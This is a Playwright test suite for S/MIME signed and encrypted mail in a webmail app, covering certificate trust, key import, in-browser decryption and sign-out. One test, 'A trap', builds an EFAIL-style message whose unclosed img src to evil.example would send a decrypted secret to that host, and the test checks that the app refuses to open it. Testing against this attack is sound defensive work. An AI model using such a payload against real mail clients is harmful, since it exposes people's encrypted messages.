import { expect, type Page } from "@playwright/test";
import { OpenSsl } from "../lib/smime/testing/openssl.ts";
import { handIn } from "../mail-core/testing/dialogue.ts";
import { expectAccessible } from "./accessible.ts";
import { needs } from "./needs.ts";
import { pictures } from "./pictures.ts";
import type { Keryx } from "./servers.ts";
import { test } from "./shared-keryx.ts";
import { rows, signIn } from "./signing-in.ts";

needs("openssl");
test.describe.configure({ mode: "serial" });

let keryx: Keryx;
let openssl: OpenSsl;
const folder = (name: string) => openssl.at(name);

test.beforeAll(async ({ shared }) => {
  keryx = await shared.lend(["bob"]);
  openssl = await OpenSsl.open();
  await openssl.certify({ address: null, name: "authority" });
  for (const [name, address] of [
    ["bob", "bob@crepes.fr"],
    ["alice", "alice@crepes.fr"],
    ["carol", "carol@hamburger.edu"],
  ] as const)
    await openssl.certify({ address, name, issuer: "authority" });
});
test.afterAll(() => openssl.close());

const reading = (page: Page) => page.getByRole("region", { name: "Reading" });
const open = (page: Page, subject: string) =>
  rows(page).filter({ hasText: subject }).getByRole("link").first().click();

/** Hands in what `openssl cms` made of these words. */
async function arrive(subject: string, words: string, ...how: string[]): Promise<void> {
  await openssl.put("words", words);
  await openssl.run("cms", "-in", "words", "-out", "message", "-crlfeol", ...how);
  await handInFile(subject, "message");
}
async function handInFile(subject: string, name: string, change = (text: string) => text): Promise<void> {
  const made = change(Buffer.from(await openssl.get(name)).toString("latin1")).replace(/\r?\n/g, "\r\n");
  const message = `From: Carol <carol@hamburger.edu>\r\nTo: bob@crepes.fr\r\nSubject: ${subject}\r\n${made}`;
  const envelope = { from: "carol@hamburger.edu", to: "bob@crepes.fr" };
  await handIn(keryx.ports.smtp, envelope, Buffer.from(message, "latin1"));
}
const byCarol = ["-sign", "-signer", "carol.pem", "-inkey", "carol.key", "-certfile", "authority.pem"];

async function importKey(page: Page, name: string): Promise<void> {
  await page.goto(`${keryx.url}/settings/encryption`);
  await page.getByLabel("Key file").setInputFiles(folder(`${name}.p12`));
  await page.getByLabel("Its password").fill("crepes");
  await page.getByRole("button", { name: "Import" }).click();
  await expect(page.getByRole("list", { name: "Your keys" })).toContainText(name);
}

test("who signed a message is told in words, a certificate is trusted on a click, and what was changed is told", async ({
  page,
}) => {
  const words = "Content-Type: text/plain; charset=utf-8\r\n\r\nCrêpes at noon.\r\n";
  await arrive("Lunch is signed", words, ...byCarol);
  await handInFile("Lunch was changed", "message", (text) => text.replace("at noon", "at one!"));
  await signIn(page, keryx, "bob@crepes.fr");
  await open(page, "Lunch is signed");
  const told = reading(page).getByRole("region", { name: "Signature" });
  await expect(told.getByText("Signed with a certificate that you do not know yet")).toBeVisible();
  await expect(reading(page).getByText("Crêpes at noon.")).toBeVisible();
  await expect(reading(page).getByText("smime.p7s")).toHaveCount(0);
  await expectAccessible(page, "a signature that is not known");
  await pictures(page, "signed");
  await told.getByRole("button", { name: "Trust all certificates of authority" }).click();
  await expect(told.getByText("Signed by carol, and not changed since")).toBeVisible();
  await told.getByRole("button", { name: "Signed by carol, and not changed since" }).click();
  await expect(told.getByText("carol@hamburger.edu", { exact: true })).toBeVisible();

  await open(page, "Lunch was changed");
  await expect(told.getByText("Changed since it was signed")).toBeVisible();
  await expect(reading(page).getByText("Crêpes at one!.")).toBeVisible();
});

test("an encrypted message asks for its key, opens in the browser, and fetches nothing from elsewhere", async ({
  page,
}) => {
  const html =
    'Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>The <b>recipe</b> is secret.</p><img src="https://tracker.example/seen.gif">\r\n--x\r\nContent-Type: text/plain; name="recipe.txt"\r\nContent-Disposition: attachment; filename="recipe.txt"\r\n\r\nFlour, eggs, milk.\r\n--x--\r\n';
  await arrive("A recipe", html, "-encrypt", "-aes-256-cbc", "-recip", "bob.pem");
  await signIn(page, keryx, "bob@crepes.fr");
  await open(page, "A recipe");
  await expect(reading(page).getByText("Encrypted, for a key that is not in this browser.")).toBeVisible();
  await expectAccessible(page, "a message without its key");

  await importKey(page, "bob");
  await expect(page.getByRole("list", { name: "Your keys" })).toContainText("bob@crepes.fr");
  await expect(page.getByRole("list", { name: "Your keys" })).toContainText("Issued by authority");
  await expectAccessible(page, "signing and encryption in the settings");
  await pictures(page, "settings");

  await page.goto(`${keryx.url}/mail/inbox`);
  await open(page, "A recipe");
  await expect(reading(page).getByText("Encrypted in the way of most mail programs")).toBeVisible();
  await pictures(page, "locked");
  await reading(page).getByLabel("Password of the key file").fill("waffles");
  await reading(page).getByRole("button", { name: "Open", exact: true }).click();
  await expect(reading(page).getByText("This is not its password.")).toBeVisible();
  await reading(page).getByLabel("Password of the key file").fill("crepes");
  await reading(page).getByRole("button", { name: "Open", exact: true }).click();

  const frame = reading(page).frameLocator("iframe").first();
  await expect(frame.getByText("The recipe is secret.")).toBeVisible();
  await expect(reading(page).getByText("does not tell whether somebody changed it")).toBeVisible();
  await expect(reading(page).getByText("Nothing is fetched for a message that is opened here")).toBeVisible();
  await expect(reading(page).getByRole("button", { name: "Show images" })).toHaveCount(0);
  await expectAccessible(page, "a message that was opened here");
  await pictures(page, "opened");

  const files = page.getByRole("region", { name: "Attachments" });
  await files.getByRole("button", { name: "View recipe.txt" }).click();
  await expect(
    page.getByRole("dialog", { name: "recipe.txt" }).getByText("Flour, eggs, milk."),
  ).toBeVisible();
  await page.keyboard.press("Escape");
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    files.getByRole("link", { name: "Download recipe.txt" }).click(),
  ]);
  expect(download.suggestedFilename()).toBe("recipe.txt");
});

test("what was encrypted and stands among other parts is not opened", async ({ page }) => {
  await openssl.put("words", "Content-Type: text/plain\r\n\r\nThe secret.\r\n");
  const how = ["-encrypt", "-aes-256-cbc", "-recip", "bob.pem", "-keyopt", "rsa_padding_mode:oaep"];
  await openssl.run("cms", "-in", "words", "-out", "message", "-crlfeol", ...how);
  await handInFile(
    "A trap",
    "message",
    (secret) =>
      `MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=y\r\n\r\n--y\r\nContent-Type: text/html\r\n\r\n<p>Look:</p><img src="https://evil.example/?\r\n--y\r\n${secret}\r\n--y\r\nContent-Type: text/html\r\n\r\n">\r\n--y--\r\n`,
  );
  await signIn(page, keryx, "bob@crepes.fr");
  await importKey(page, "bob");
  await page.goto(`${keryx.url}/mail/inbox`);
  await open(page, "A trap");
  await expect(page.getByRole("region", { name: "Attachments" }).getByText("smime.p7m")).toBeVisible();
  await expect(reading(page).getByText("The secret.")).toHaveCount(0);
});

test("a sign-out says that keys go, and leaves none", async ({ page }) => {
  await signIn(page, keryx, "bob@crepes.fr");
  await importKey(page, "bob");
  await page.getByRole("button", { name: "Sign out" }).click();
  const asked = page.getByRole("dialog", { name: "Sign out and lose your keys?" });
  await expect(asked).toContainText("keep its key file");
  await asked.getByRole("button", { name: "Delete and sign out" }).click();
  await page.waitForURL(/\/sign-in/);
  await signIn(page, keryx, "bob@crepes.fr");
  await page.goto(`${keryx.url}/settings/encryption`);
  await expect(page.getByText("No key yet.")).toBeVisible();
});

/** Trusts somebody's certificate from a file, as one got it from him. */
async function trustFile(page: Page, name: string): Promise<void> {
  await page.goto(`${keryx.url}/settings/encryption`);
  await page.getByLabel("Add a certificate file (.cer, .crt or .pem)").setInputFiles(folder(`${name}.pem`));
  await expect(page.getByRole("list", { name: "Trusted certificates" })).toContainText(name);
}

test("a message is signed and encrypted between two people, read, and answered in secret", async ({
  page,
  anotherBrowser,
}) => {
  await signIn(page, keryx, "alice@crepes.fr");
  await importKey(page, "alice");
  await page.goto(`${keryx.url}/mail/inbox`);
  await page.getByRole("button", { name: "Compose" }).click();
  await page.getByLabel("Subject").fill("Dinner");
  const composer = page.getByRole("region", { name: "Dinner" });
  const to = composer.getByRole("combobox", { name: "To" });
  await to.fill("bob@crepes.fr");
  await to.press("Enter");
  await composer.getByRole("button", { name: "Sign", exact: true }).click();
  await composer.getByRole("button", { name: "Encrypt", exact: true }).click();
  await composer.getByRole("textbox", { name: "Message" }).fill("Nobody else is to know of it.");
  await expect(composer.getByRole("img", { name: "No certificate: could not read it" })).toBeVisible();
  await composer.getByRole("button", { name: "Send", exact: true }).click();
  await expect(composer.getByRole("alert").getByText("no valid certificate of bob@crepes.fr")).toBeVisible();
  await expectAccessible(page, "a secret that its reader could not read");

  await composer.getByRole("button", { name: "Close and keep the draft" }).click();
  await expect(composer).toBeHidden();
  await trustFile(page, "bob");
  await page.goto(`${keryx.url}/mail/inbox`);
  await expect(composer.getByRole("img", { name: "Can be written to in secret" })).toBeVisible();
  await composer.getByRole("button", { name: "Bcc" }).click();
  const blind = composer.getByRole("combobox", { name: "Bcc" });
  await blind.fill("carol@hamburger.edu");
  await blind.press("Enter");
  await expect(composer.getByText("see for whom else it was encrypted")).toBeVisible();
  await composer.getByRole("button", { name: "Remove carol@hamburger.edu" }).click();
  await page.getByLabel("Files to attach").setInputFiles({
    name: "menu.txt",
    mimeType: "text/plain",
    buffer: Buffer.from("Crêpes and cider."),
  });
  await expect(composer.getByText("18 bytes", { exact: true })).toBeVisible();
  await expect(composer.getByText("Only the recipients can read it.")).toBeVisible();
  await expect(composer.getByText("Only in this browser")).toBeVisible();
  await expectAccessible(page, "a message that is to be encrypted");
  await pictures(page, "written");
  await composer.getByRole("button", { name: "Send", exact: true }).click();
  await expect(composer).toBeHidden();

  const bobs = await anotherBrowser();
  await signIn(bobs, keryx, "bob@crepes.fr");
  await importKey(bobs, "bob");
  await bobs.goto(`${keryx.url}/mail/inbox`);
  await open(bobs, "Dinner");
  await reading(bobs).getByLabel("Password of the key file").fill("crepes");
  await reading(bobs).getByRole("button", { name: "Open", exact: true }).click();
  const shown = reading(bobs).frameLocator("iframe").first();
  await expect(shown.getByText("Nobody else is to know of it.")).toBeVisible();
  await expect(bobs.getByRole("region", { name: "Attachments" }).getByText("menu.txt")).toBeVisible();
  const told = reading(bobs).getByRole("region", { name: "Signature" });
  await told.getByRole("button", { name: "Trust this certificate" }).click();
  await expect(told.getByText("Signed by alice, and not changed since")).toBeVisible();
  await expect(reading(bobs).getByText("Neither this server nor anybody on the way")).toBeVisible();

  await reading(bobs).getByRole("button", { name: "Reply", exact: true }).first().click();
  const answer = bobs.getByRole("region", { name: "Re: Dinner" });
  await expect(answer.getByRole("button", { name: "Encrypt", exact: true, pressed: true })).toBeVisible();
  await expect(answer.getByRole("img", { name: "Can be written to in secret" })).toBeVisible();
  await answer.getByRole("button", { name: "Sign", exact: true }).click();
  await answer.getByRole("textbox", { name: "Message" }).fill("I bring the cider.");
  await answer.getByRole("button", { name: "Send", exact: true }).click();
  await expect(answer).toBeHidden();

  // What we write for each other needs no password: it is encrypted as Web Crypto opens it.
  await open(page, "Dinner");
  const answered = reading(page).frameLocator("iframe").last();
  await expect(answered.getByText("I bring the cider.")).toBeVisible();
  await expect(reading(page).getByRole("region", { name: "Signature" }).last()).toBeVisible();
  await page.getByRole("link", { name: "Drafts" }).click();
  await expect(page.getByText("What you begin to write is kept here.")).toBeVisible();
});

test("a secret that was sent too soon is called back, and is there as it was written", async ({ page }) => {
  await signIn(page, keryx, "alice@crepes.fr", { undoSeconds: 30 });
  await importKey(page, "alice");
  await trustFile(page, "bob");
  await page.goto(`${keryx.url}/mail/inbox`);
  await page.getByRole("button", { name: "Compose" }).click();
  await page.getByLabel("Subject").fill("Too soon");
  const composer = page.getByRole("region", { name: "Too soon" });
  const to = composer.getByRole("combobox", { name: "To" });
  await to.fill("bob@crepes.fr");
  await to.press("Enter");
  await composer.getByRole("button", { name: "Encrypt", exact: true }).click();
  await composer.getByRole("textbox", { name: "Message" }).fill("Half a word.");
  await composer.getByRole("button", { name: "Send", exact: true }).click();
  await expect(composer).toBeHidden();
  await page.getByRole("button", { name: "Undo" }).click();
  await expect(composer.getByRole("textbox", { name: "Message" })).toHaveText("Half a word.");
  await expect(composer.getByText("Only in this browser")).toBeVisible();
  // What the server has of it opens with the key alone.
  await composer.getByRole("button", { name: "Close and keep the draft" }).click();
  await page.getByRole("link", { name: "Drafts" }).click();
  await open(page, "Too soon");
  await expect(composer.getByRole("textbox", { name: "Message" })).toHaveText("Half a word.");
});
